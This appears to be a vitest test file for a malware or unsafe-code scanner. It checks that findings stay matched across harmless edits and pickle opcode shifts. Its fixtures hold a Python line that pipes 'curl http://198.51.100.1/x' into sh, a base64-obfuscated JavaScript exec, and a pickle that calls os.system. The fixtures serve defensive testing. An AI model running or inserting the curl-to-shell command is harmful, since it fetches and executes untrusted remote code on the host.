import { compareReports } from '@shared/scan-report/compare'
import { describe, expect, test } from 'vitest'
import { callPickle } from '../../fixtures/pickle-writer'
import { scanBytes } from '../../fixtures/scan-bytes'
import { makeFile, makeReport } from '../scan-page/make'

describe('findings of a file that was edited', () => {
  const python = "import os\n\nos.system('curl http://198.51.100.1/x | sh')\n"
  const script = "const { exec } = require('child_process')\nexec(atob('ZWNobyBoYXJtbGVzcw=='))\n"
  const call = callPickle('os', 'system')
  const scanned = (name: string, bytes: Uint8Array) => {
    const { findings } = scanBytes(bytes, { name })
    return makeReport([makeFile(name, { findings })])
  }
  test.each([
    ['Python', 'train.py', python, `# one\n# two\n\n${python}`],
    ['JavaScript', 'load.js', script, `// one\n// two\n\n${script}`],
  ])('are unchanged under three new lines of %s', (_, name, before, after) => {
    const { counts } = compareReports(
      scanned(name, Buffer.from(before)),
      scanned(name, Buffer.from(after)),
    )
    expect(counts).toEqual({ new: 0, fixed: 0, unchanged: expect.toSatisfy((n) => n > 0) })
  })
  test('are unchanged in a pickle whose stream begins elsewhere', () => {
    const before = scanned('a.pkl', call)
    // PROTO 2, None, POP: three opcodes that do nothing, before the same call.
    const moved = Buffer.concat([Buffer.from([0x80, 2, 0x4e, 0x30]), call])
    const { counts } = compareReports(before, scanned('a.pkl', moved))
    expect(counts).toEqual({ new: 0, fixed: 0, unchanged: expect.toSatisfy((n) => n > 0) })
  })
  test('are other findings where the code itself is another', () => {
    const { counts } = compareReports(
      scanned('train.py', Buffer.from(python)),
      scanned('train.py', Buffer.from(python.replace('/x', '/y'))),
    )
    expect(counts.new).toBeGreaterThan(0)
    expect(counts.new).toBe(counts.fixed)
  })
})
